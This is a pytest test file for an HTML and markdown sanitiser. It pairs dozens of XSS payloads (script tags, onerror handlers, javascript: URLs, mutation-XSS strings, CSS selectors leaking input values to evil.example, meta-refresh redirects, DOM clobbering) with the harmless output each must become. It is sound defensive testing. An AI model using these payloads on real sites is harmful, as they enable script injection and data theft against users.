"""Texts written to do harm: what stays of each on the page, exactly."""

import pytest

from tests.factories.markup import html

IMAGE = '<img src="/c/small.png" alt="" width="200" height="100" loading="lazy" decoding="async">'
NO_DRAWING = '<p class="note refused">A drawing or formula in this place cannot be shown here.</p>'
NO_FORM = '<p class="note refused">A form in this place cannot be filled in here.</p>'
NO_FRAME = '<p class="note refused">Something in this place cannot be shown here.</p>'
REGION = '<div class="table" role="region" aria-label="Table 1" tabindex="0">'
NO_VIDEO = '<p class="note missing">A video is not available here.</p>'
NO_PICTURE = '<p class="note missing">A picture is not available here.</p>'

PROGRAMS = [
    ("<script>alert(1)</script>", ""),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", ""),
    ("<scr<script>ipt>alert(1)</script>", "<p>&lt;scr</p>"),
    ("<img src=small.png onerror=alert(1)>", f"<p>{IMAGE}</p>"),
    ('<img src="x" onerror="alert(1)">', NO_PICTURE),
    ("<svg onload=alert(1)></svg>", NO_DRAWING),
    ("<svg><script>alert(1)</script></svg>", NO_DRAWING),
    (
        "<details open ontoggle=alert(1)>x</details>",
        '<details open="" class="admonition note"><summary>More</summary>x</details>',
    ),
    ('<a href="#" onclick="alert(1)">x</a>', '<p><a href="#">x</a></p>'),
    ("<video><source onerror=alert(1)></video>", NO_VIDEO),
    ("<marquee onstart=alert(1)>x</marquee>", "<p>x</p>"),
]
ADDRESSES = [
    ("[x](javascript:alert(1))", "<p>x</p>"),
    ("[x](JaVa&#x09;Script:alert(1))", "<p>x</p>"),
    ('<a href="java\nscript:alert(1)">x</a>', "<p>x</p>"),
    ("[x](data:text/html;base64,PHNjcmlwdD4=)", "<p>x</p>"),
    ("[x](vbscript:x)", "<p>x</p>"),
    ("[x](//evil.example)", "<p>x</p>"),
    ("[x]\n\n[x]: javascript:alert(1)", "<p>x</p>"),
    ("<javascript:alert(1)>", ""),
    ("![x](javascript:alert(1))", f"{NO_PICTURE.replace('here.</p>', 'here. It shows: x</p>')}"),
    (
        '<a href="https://a.example" ping="https://evil.example">x</a>',
        '<p><a href="https://a.example" rel="noopener noreferrer">x</a></p>',
    ),
]
MUTATIONS = [
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ""),
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        NO_DRAWING,
    ),
    ('<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', f'{NO_DRAWING}{NO_PICTURE}"&gt;'),
    (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        f"<div>{NO_FORM}{NO_DRAWING}</div>{NO_PICTURE}",
    ),
    (
        '<table><td><a title="</table><img src=x onerror=alert(1)>">x',
        f"{REGION}<table><tbody><tr><td>x</td></tr></tbody></table></div>",
    ),
    (
        "<listing>&lt;img onerror=alert(1)&gt;</listing>",
        "<p>&lt;listing&gt;&lt;img onerror=alert(1)&gt;&lt;/listing&gt;</p>",
    ),
]
WHOLE_PAGE = [
    ("<base href=//evil.example>x", "<p>x</p>"),
    ('<meta http-equiv="refresh" content="0;url=//evil.example">x', "<p>x</p>"),
    ("<link rel=prefetch href=//evil.example>x", "<p>x</p>"),
    (
        '<form action="//evil.example"><input name="csrfmiddlewaretoken">'
        '<button formaction="//evil.example">Go</button></form>',
        f"<div>{NO_FORM}Go</div>",
    ),
    ("<input name=csrfmiddlewaretoken>", NO_FORM),
    ('<p id="csrftoken">x</p>', '<p id="t-csrftoken">x</p>'),
    ('<p name="getElementById">x</p>', "<p>x</p>"),
    ('<a name="getElementById">x</a>', '<p><span id="t-getelementbyid">x</span></p>'),
    ("# path\n\n# main\n", '<h2 id="t-path">path</h2>\n<h2 id="t-main">main</h2>'),
]
STYLES = [
    ('<div style="position:fixed;inset:0">x</div>', "<div>x</div>"),
    ('<div style="background:url(//evil.example/x)">x</div>', "<div>x</div>"),
    ("<style>input[value^=a] { background: url(//evil.example) }</style>x", "<p>x</p>"),
    ('<style>@import "//evil.example";</style>x', "<p>x</p>"),
    ('<div class="embed" data-src="https://evil.example/">x</div>', "<div>x</div>"),
]
ELSEWHERE = [
    (
        "![](https://evil.example/x.png)",
        '<p><a class="elsewhere" href="https://evil.example/x.png" rel="noopener noreferrer">'
        "Picture on evil.example</a></p>",
    ),
    ('<img src="small.png" srcset="//evil.example/x 2x">', f"<p>{IMAGE}</p>"),
    ('<picture><source srcset="//evil.example/x"><img src="small.png"></picture>', f"<p>{IMAGE}</p>"),
    (
        '<video poster="//evil.example/x" src="//evil.example/y"></video>',
        '<p class="note missing">A video is not available here.</p>',
    ),
    ('<iframe src="https://youtube.com.evil/embed/abcdefghijk"></iframe>', NO_FRAME),
    ('<iframe src="https://youtube.com@evil/embed/abcdefghijk"></iframe>', NO_FRAME),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', NO_FRAME),
    ('<object data="javascript:alert(1)"></object>', NO_FRAME),
    ('<input type="image" src="//evil.example/x">', NO_FORM),
]
CODE = [
    (
        "```\n</code></pre><script>alert(1)</script>\n```",
        "<pre><code>&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
    ),
    ("`</code><script>alert(1)</script>`", "<p><code>&lt;/code&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code></p>"),
    (
        '```"><script>alert(1)</script>\nx\n```',
        '<p><code>"&gt;&lt;script&gt;alert(1)&lt;/script&gt;\nx</code></p>',
    ),
    (
        "$\\href{javascript:alert(1)}{x}$",
        '<p><code class="formula" dir="ltr">\\href{javascript:alert(1)}{x}</code></p>',
    ),
    (
        '[x](unit.md "\\"><script>alert(1)</script>")',
        '<p><a href="../2.1/" title="\\&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a></p>',
    ),
    (
        '*[x]: "><script>alert(1)</script>\n\nx',
        '<p><abbr title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</abbr></p>',
    ),
]


@pytest.mark.parametrize(
    ("typed", "shown"),
    [*PROGRAMS, *ADDRESSES, *MUTATIONS, *WHOLE_PAGE, *STYLES, *ELSEWHERE, *CODE],
)
def test_hostile_text_leaves_only(typed, shown):
    assert html(typed) == shown


def test_names_of_notes_are_only_numbers():
    name = '"><script>alert(1)</script>'
    page = html(f"x[^{name}]\n\n[^{name}]: y")
    assert page.startswith('<p>x<sup><a id="n-1-1" href="#n-1"')
    assert "alert" not in page
